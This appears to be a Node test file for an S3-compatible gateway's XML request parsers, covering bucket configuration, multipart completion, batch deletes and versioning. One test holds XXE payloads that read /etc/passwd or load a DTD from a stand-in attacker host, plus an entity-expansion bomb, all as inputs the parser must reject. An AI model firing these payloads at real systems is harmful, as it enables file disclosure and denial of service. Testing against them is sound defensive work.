import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isStoreError, type StoreErrorCode } from '../../../../services/gateway/errors/store-error.ts';
import {
  parseCompleteMultipartUpload, parseCreateBucketConfiguration, parseDeleteObjects, parseVersioningConfiguration,
} from '../../../../services/gateway/s3/index.ts';

const NS = 'xmlns="http://s3.amazonaws.com/doc/2006-03-01/"';
const DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';

function rejects(fn: () => unknown, code: StoreErrorCode, label?: string): void {
  assert.throws(fn, (e: unknown) => isStoreError(e, code), label ?? `expected ${code}`);
}

test('CreateBucketConfiguration: empty body, constraint, empty constraint', () => {
  assert.deepEqual(parseCreateBucketConfiguration(Buffer.alloc(0)), {});
  assert.deepEqual(parseCreateBucketConfiguration(' \n'), {});
  assert.deepEqual(parseCreateBucketConfiguration(`${DECL}<CreateBucketConfiguration ${NS}><LocationConstraint>eu-west-1</LocationConstraint></CreateBucketConfiguration>`),
    { locationConstraint: 'eu-west-1' });
  assert.deepEqual(parseCreateBucketConfiguration(`<CreateBucketConfiguration ${NS}><LocationConstraint/></CreateBucketConfiguration>`), {});
  assert.deepEqual(parseCreateBucketConfiguration(`<CreateBucketConfiguration ${NS}>\n  </CreateBucketConfiguration>`), {});
  assert.deepEqual(parseCreateBucketConfiguration(`<CreateBucketConfiguration/>`), {});
  rejects(() => parseCreateBucketConfiguration('<Other/>'), 'MalformedXML');
});

test('CompleteMultipartUpload: parts, quotes optional, checksums, one or many', () => {
  const body = Buffer.from(`${DECL}<CompleteMultipartUpload ${NS}>
    <Part><PartNumber>1</PartNumber><ETag>"a1"</ETag><ChecksumCRC32>AAA=</ChecksumCRC32></Part>
    <Part><ETag>&quot;b2&quot;</ETag><PartNumber> 2 </PartNumber></Part>
    <Part><PartNumber>10000</PartNumber><ETag>c3</ETag><ChecksumSHA256>x</ChecksumSHA256><Unknown>ignored</Unknown></Part>
  </CompleteMultipartUpload>`);
  assert.deepEqual(parseCompleteMultipartUpload(body), [
    { partNumber: 1, etag: 'a1', checksums: { crc32: 'AAA=' } },
    { partNumber: 2, etag: 'b2', checksums: {} },
    { partNumber: 10000, etag: 'c3', checksums: { sha256: 'x' } },
  ]);
  assert.deepEqual(parseCompleteMultipartUpload(`<CompleteMultipartUpload><Part><PartNumber>3</PartNumber><ETag>e</ETag></Part></CompleteMultipartUpload>`),
    [{ partNumber: 3, etag: 'e', checksums: {} }]);
});

test('CompleteMultipartUpload: missing, empty, bad numbers, bad order', () => {
  rejects(() => parseCompleteMultipartUpload(''), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload/>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload>\n</CompleteMultipartUpload>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><ETag>e</ETag></Part></CompleteMultipartUpload>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><PartNumber>1</PartNumber></Part></CompleteMultipartUpload>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><PartNumber>x</PartNumber><ETag>e</ETag></Part></CompleteMultipartUpload>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><PartNumber>2</PartNumber><ETag>e</ETag></Part></CompleteMultipartUpload>'), 'MalformedXML');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><PartNumber>0</PartNumber><ETag>e</ETag></Part></CompleteMultipartUpload>'), 'InvalidArgument');
  rejects(() => parseCompleteMultipartUpload('<CompleteMultipartUpload><Part><PartNumber>10001</PartNumber><ETag>e</ETag></Part></CompleteMultipartUpload>'), 'InvalidArgument');
  const part = (n: number) => `<Part><PartNumber>${n}</PartNumber><ETag>e</ETag></Part>`;
  rejects(() => parseCompleteMultipartUpload(`<CompleteMultipartUpload>${part(2)}${part(1)}</CompleteMultipartUpload>`), 'InvalidPartOrder');
  rejects(() => parseCompleteMultipartUpload(`<CompleteMultipartUpload>${part(1)}${part(1)}</CompleteMultipartUpload>`), 'InvalidPartOrder');
});

test('Delete: keys verbatim (spaces, entities, CDATA, unicode), versions, Quiet', () => {
  const body = `${DECL}<Delete ${NS}>
    <Quiet>true</Quiet>
    <Object><Key> spaced key </Key></Object>
    <Object><Key>a&amp;b&lt;c&gt;&quot;&apos;&#x41;&#66;&#x1F600;</Key><VersionId>v1</VersionId></Object>
    <Object><Key><![CDATA[raw <&> text]]></Key></Object>
    <Object><Key>\u2603/\u00e9</Key><VersionId>null</VersionId></Object>
    <Object><Key>0012</Key></Object>
  </Delete>`;
  assert.deepEqual(parseDeleteObjects(Buffer.from(body)), {
    quiet: true,
    objects: [
      { key: ' spaced key ' },
      { key: 'a&b<c>"\'AB\u{1F600}', versionId: 'v1' },
      { key: 'raw <&> text' },
      { key: '\u2603/\u00e9', versionId: 'null' },
      { key: '0012' },
    ],
  });
  assert.equal(parseDeleteObjects('<Delete><Object><Key>k</Key></Object></Delete>').quiet, false);
  assert.equal(parseDeleteObjects('<Delete><Quiet>FALSE</Quiet><Object><Key>k</Key></Object></Delete>').quiet, false);
  // Namespace prefixes are accepted.
  assert.deepEqual(parseDeleteObjects('<s3:Delete xmlns:s3="x"><s3:Object><s3:Key>k</s3:Key></s3:Object></s3:Delete>').objects, [{ key: 'k' }]);
});

test('Delete: limits and shape', () => {
  const objects = (n: number) => Array.from({ length: n }, (_, i) => `<Object><Key>k${i}</Key></Object>`).join('');
  assert.equal(parseDeleteObjects(`<Delete>${objects(1000)}</Delete>`).objects.length, 1000);
  rejects(() => parseDeleteObjects(`<Delete>${objects(1001)}</Delete>`), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Quiet>true</Quiet></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Object><VersionId>v</VersionId></Object></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Object><Key></Key></Object></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Object><Key>a</Key><Key>b</Key></Object></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Object><Key><Inner/></Key></Object></Delete>'), 'MalformedXML');
  rejects(() => parseDeleteObjects('<Delete><Quiet>yes</Quiet><Object><Key>k</Key></Object></Delete>'), 'MalformedXML');
});

test('VersioningConfiguration', () => {
  assert.deepEqual(parseVersioningConfiguration(`<VersioningConfiguration ${NS}><Status>Enabled</Status></VersioningConfiguration>`), { status: 'Enabled' });
  assert.deepEqual(parseVersioningConfiguration('<VersioningConfiguration><Status>Suspended</Status><MfaDelete>Disabled</MfaDelete></VersioningConfiguration>'), { status: 'Suspended' });
  rejects(() => parseVersioningConfiguration(''), 'MalformedXML');
  rejects(() => parseVersioningConfiguration('<VersioningConfiguration><Status>enabled</Status></VersioningConfiguration>'), 'IllegalVersioningConfigurationException');
  rejects(() => parseVersioningConfiguration('<VersioningConfiguration/>'), 'IllegalVersioningConfigurationException');
  rejects(() => parseVersioningConfiguration('<VersioningConfiguration><Status>Enabled</Status><MfaDelete>Enabled</MfaDelete></VersioningConfiguration>'), 'NotImplemented');
});

const DELETE_OK = '<Delete><Object><Key>k</Key></Object></Delete>';

test('malformed documents are MalformedXML', () => {
  const bad: Array<string | Buffer> = [
    'not xml at all',
    '<Delete><Object><Key>k</Key></Object>',                       // truncated
    DELETE_OK.slice(0, -3),
    '<Delete><Object><Key>k</Key></Object></Delete',
    '<Delete><Object><Key>k</Object></Key></Delete>',              // misnested
    '<Wrong><Object><Key>k</Key></Object></Wrong>',                // wrong root
    `${DELETE_OK}${DELETE_OK}`,                                     // two roots
    `${DELETE_OK}<Other/>`,
    `${DELETE_OK}trailing text`,
    `${DELETE_OK}junk>`,
    'text first<Delete/>',
    '<Delete><Object><Key>a & b</Key></Object></Delete>',           // bare ampersand
    '<Delete><Object><Key>&nbsp;</Key></Object></Delete>',          // HTML, not XML, entity
    '<Delete><Object><Key>&unknown;</Key></Object></Delete>',
    '<Delete><Object><Key>&#0;</Key></Object></Delete>',            // reference to a non-XML character
    '<Delete><Object><Key>&#x1;</Key></Object></Delete>',
    '<Delete><Object><Key>&#xD800;</Key></Object></Delete>',
    '<Delete><Object><Key>&#x110000;</Key></Object></Delete>',
    Buffer.from([0x3c, 0x44, 0x65, 0x6c, 0x65, 0x74, 0x65, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x44, 0x65, 0x6c, 0x65, 0x74, 0x65, 0x3e]), // invalid UTF-8
    '<Delete><__proto__><Key>k</Key></__proto__></Delete>',
  ];
  for (const body of bad) rejects(() => parseDeleteObjects(body), 'MalformedXML', String(body).slice(0, 80));
});

test('DOCTYPE and entity definitions are refused: XXE and entity bombs', () => {
  const attacks = [
    '<?xml version="1.0"?><!DOCTYPE Delete [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>',
    '<!DOCTYPE Delete [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
      + '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><Delete><Object><Key>&d;&d;&d;</Key></Object></Delete>',
    '<!DOCTYPE Delete SYSTEM "http://attacker.example/x.dtd"><Delete><Object><Key>k</Key></Object></Delete>',
    '<!DOCTYPE Delete><Delete><Object><Key>k</Key></Object></Delete>',
    '<Delete><!ENTITY x "y"><Object><Key>k</Key></Object></Delete>',
    '<Delete><Object><Key>k</Key></Object></Delete><!DOCTYPE x>',
  ];
  for (const body of attacks) rejects(() => parseDeleteObjects(body), 'MalformedXML', body.slice(0, 60));
  // Comments and processing instructions are harmless and allowed.
  assert.deepEqual(parseDeleteObjects('<?xml version="1.0"?><!-- c --><Delete><!-- <!DOCTYPE not-really> --><Object><Key>k</Key></Object></Delete><!-- end -->').objects, [{ key: 'k' }]);
});

test('a UTF-8 BOM is accepted', () => {
  const body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(DELETE_OK)]);
  assert.deepEqual(parseDeleteObjects(body).objects, [{ key: 'k' }]);
});
